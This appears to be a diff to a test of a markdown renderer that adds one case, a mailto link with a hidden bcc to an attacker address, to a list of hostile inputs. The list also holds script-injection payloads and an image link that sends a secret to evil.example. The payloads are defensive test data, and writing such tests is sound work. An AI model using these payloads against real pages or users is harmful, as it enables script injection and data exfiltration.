@@ -43,6 +43,7 @@ async def test_markdown_becomes_elements(core: Core, text: str, markup: str) -> 
         '<img src=x onerror="alert(1)">',
         "![pixel](http://evil.example/?q=secret)",
         "[here](javascript:alert(1))",
+        "[here](mailto:ada@example.org?bcc=eve@evil.example)",
         "[here](data:text/html,x)",
         "<script>alert(1)</script>",
         "[a]: javascript:alert(1)\n\n[a]",
